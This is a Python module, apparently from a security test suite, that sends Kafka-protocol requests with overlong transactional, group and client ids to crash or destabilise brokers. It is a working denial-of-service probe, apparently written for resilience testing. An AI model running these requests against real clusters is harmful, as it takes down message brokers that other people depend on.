"""Ids that fit into a request and into nothing that a coordinator writes: they ended brokers."""

from __future__ import annotations

import time

from attacks.scene import Scene
from attacks.target import GROUPS, TRANSACTIONS
from attacks.wire import NONE, Peer, frame
from barnabas.cluster.layout import Node
from barnabas.protocol.messages.find_coordinator import FindCoordinatorRequest
from barnabas.protocol.messages.init_producer_id import InitProducerIdRequest
from barnabas.protocol.messages.join_group import JoinGroupRequest, JoinGroupRequestProtocol
from barnabas.protocol.messages.txn_offset_commit import (
    TxnOffsetCommitRequest,
    TxnOffsetCommitRequestPartition,
    TxnOffsetCommitRequestTopic,
)
from barnabas.protocol.schema import Message

LONG = 40_000
"""Characters: more than the 32,767 that a classic string can have."""
BLOCK_OF_PRODUCER_IDS = 1000
TIMEOUT_MS = 60_000


def long_transactional_id(scene: Scene) -> None:
    """InitProducerId with a long transactional id, when the broker has used up its producer ids."""
    node = scene.target.brokers[0]
    key = _long_id_at(scene, TRANSACTIONS, node)
    with scene.peer(node) as peer:
        _use_up_producer_ids(peer)
        scene.begin(node)
        _ask(scene, peer, InitProducerIdRequest(transactional_id=key, transaction_timeout_ms=TIMEOUT_MS), 4)


def long_group_id(scene: Scene) -> None:
    """TxnOffsetCommit v5 with a long group id, in a transaction of the attacker's own."""
    node = scene.target.brokers[0]
    group = _long_id_at(scene, GROUPS, node)
    transactional_id = scene.target.coordinated_at(TRANSACTIONS, node, "attacker")
    scene.target.create_topic("offsets-of-attacker")
    with scene.peer(node) as peer:
        begin = InitProducerIdRequest(transactional_id=transactional_id, transaction_timeout_ms=TIMEOUT_MS)
        while (producer := peer.call(begin, 4)).error_code != NONE:
            time.sleep(0.1)
        scene.begin(node)
        request = TxnOffsetCommitRequest(
            transactional_id=transactional_id,
            group_id=group,
            producer_id=producer.producer_id,
            producer_epoch=producer.producer_epoch,
            topics=[
                TxnOffsetCommitRequestTopic(
                    name="offsets-of-attacker", partitions=[TxnOffsetCommitRequestPartition(committed_offset=1)]
                )
            ],
        )
        _ask(scene, peer, request, 5)


def long_client_id(scene: Scene) -> None:
    """JoinGroup v5 by a client.id of 32,750 characters, from which the coordinator makes a member id."""
    group = scene.target.coordinated_at(GROUPS, scene.target.brokers[0], "long-client")
    scene.begin()
    request = JoinGroupRequest(
        group_id=group,
        session_timeout_ms=10_000,
        rebalance_timeout_ms=10_000,
        protocol_type="consumer",
        protocols=[JoinGroupRequestProtocol(name="range", metadata=b"")],
    )
    with scene.peer() as peer:
        _ask(scene, peer, request, 5, client_id="c" * 32_750)


def _ask(scene: Scene, peer: Peer, request: Message, version: int, client_id: str = "attacker") -> None:
    """Sends the request, and reports it if it is answered with success."""
    scene.send(peer, frame(request, version, client_id=client_id))
    answer = peer.receive(type(request), version)
    if getattr(answer, "error_code", None) == NONE:
        scene.report("accepted")


def _long_id_at(scene: Scene, kind: int, node: Node) -> str:
    """The coordinator of an id that is too long may be refused to the attacker: then the node is asked anyway."""
    for number in range(50):
        key = f"{number}-" + "x" * LONG
        if _is_coordinated_at(scene, kind, key, node):
            return key
    return "x" * LONG


def _is_coordinated_at(scene: Scene, kind: int, key: str, node: Node) -> bool:
    scene.target.coordinator(kind, "warm")
    try:
        with scene.peer(node) as peer:
            answer = peer.call(FindCoordinatorRequest(key_type=kind, coordinator_keys=[key]), 4).coordinators[0]
    except ConnectionResetError:
        return True  # it is refused wherever it is sent
    return bool(answer.error_code == NONE and answer.port == node.port)


def _use_up_producer_ids(peer: Peer) -> None:
    while True:
        answer = peer.call(InitProducerIdRequest(transactional_id=None, transaction_timeout_ms=TIMEOUT_MS), 4)
        if answer.error_code == NONE and answer.producer_id % BLOCK_OF_PRODUCER_IDS == BLOCK_OF_PRODUCER_IDS - 1:
            return
